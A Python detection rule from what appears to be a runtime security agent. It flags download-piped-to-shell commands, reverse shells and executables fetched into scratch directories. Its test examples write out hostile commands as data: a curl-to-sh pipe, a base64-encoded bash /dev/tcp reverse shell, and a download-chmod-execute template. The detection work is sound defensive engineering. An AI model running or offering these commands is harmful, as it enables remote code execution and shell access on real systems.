"""A command line fetches and runs code, puts a shell on a connection, or hides what it runs.

The pattern is read from shell text as a shell reads it, whatever quoting, encoding, padding or name of the shell;
or a program was started that a download tool wrote to a scratch directory.

Noise: installers that are meant to be piped into a shell; provisioning scripts.
Blind to: what is typed at a prompt or read from a script, but for the programs that it starts; variables and
ciphers; a download tool under another name; a downloaded script, whose interpreter did not come with it.
"""

from __future__ import annotations

from agent.findings._base import ASKS_COMPANY
from agent.findings._base import FindingType
from agent.findings._commandlines import program_name
from agent.findings._commandlines import within
from agent.findings._examples import command
from agent.findings._examples import executable
from agent.findings._examples import fires
from agent.findings._examples import in_container
from agent.findings._examples import on_host
from agent.findings._examples import process
from agent.findings._examples import process_exec
from agent.findings._examples import silent
from agent.findings._examples import written_by
from agent.findings._suspicious import evidence
from agent.model import Context
from agent.model import Evidence
from agent.model import ProcessExec
from agent.model import Severity

NAME = "Execution:Runtime/SuspiciousCommand"
SCRATCH = ("/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/")  # noqa: S108  # where everybody may write


def match(event: ProcessExec, context: Context) -> Evidence | None:
    """Return the pattern that the command line is, or who downloaded the program."""
    found = evidence("execution", event, context) or _downloaded(event, context)
    if found is None:
        return None
    if context.benign.excuse(NAME, event, context) is not None:
        return None
    return found


def _downloaded(event: ProcessExec, context: Context) -> Evidence | None:
    """Return that a download tool wrote the program, if it did so where everybody may write."""
    writer = context.writer
    if writer is None or writer.process.exe is None or not event.path.startswith(SCRATCH):
        return None
    if not within(program_name(writer.process.exe.path), "downloaders"):
        return None
    return Evidence(
        reason=f"{event.path} was downloaded and then executed",
        severity=Severity.MEDIUM,
        command_line_example="curl -o FILE URL; chmod +x FILE; ./FILE",
        modifying_process=writer.process,
        modified_at_ns=writer.at_ns,
    )


_PIPED = "curl -s http://198.51.100.7/x | sh"
_CURL = written_by(executable("/usr/bin/curl"))

FINDING = FindingType(
    name=NAME,
    severity=Severity.MEDIUM,
    severity_rule="that of the gravest pattern: High for a shell on a connection, Medium for code that is fetched or "
    "decoded and run, Low for what only runs from a scratch directory",
    company=ASKS_COMPANY,
    same_fact=frozenset({"fetched_program"}),
    attack="T1059.004",
    title="{process} was started {place} with a command line that fetches or hides what it runs",
    on=ProcessExec,
    match=match,
    uses=("file_open",),
    examples=(
        fires(
            "a download piped into a shell",
            command("/usr/bin/bash", "-c", _PIPED),
            on_host(),
            shows={"command_line_example": "curl URL | sh", "severity": Severity.MEDIUM, "script_path": None},
        ),
        fires("by a shell of another name", command("/usr/bin/date", "-c", _PIPED), in_container()),
        fires("behind thousands of arguments", command("/bin/sh", "-a", args_tail=("-c", _PIPED)), on_host()),
        fires(
            "encoded",
            command("/bin/sh", "-c", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvMSAwPiYx | base64 -d | bash"),
            on_host(),
            shows={"severity": Severity.HIGH, "command_line_example": "bash -i >& /dev/tcp/ADDRESS/PORT 0>&1"},
        ),
        fires(
            "downloaded by another process",
            process_exec(),
            in_container(writer=_CURL),
            shows={"severity": Severity.MEDIUM, "modifying_process": _CURL.process, "modified_at_ns": _CURL.at_ns},
        ),
        silent("a download piped elsewhere", command("/usr/bin/bash", "-c", _PIPED[:-2] + "jq ."), on_host()),
        silent("without -c", command("/usr/bin/bash", _PIPED), on_host()),
        silent("written by no download tool", process_exec(), in_container(writer=written_by(executable("/bin/cp")))),
        silent("written by who is gone", process_exec(), in_container(writer=written_by(None))),
        silent("written by nobody we saw", process_exec(), in_container()),
        silent("downloaded to a proper place", process_exec(path="/usr/bin/x"), in_container(writer=_CURL)),
        silent(
            "started by the text of a shell that was the finding",
            command("/usr/bin/bash", "-c", _PIPED),
            on_host(lineage=(process("/bin/sh", args=("sh", "-c", f"sh -c '{_PIPED}'; true")),)),
        ),
    ),
)
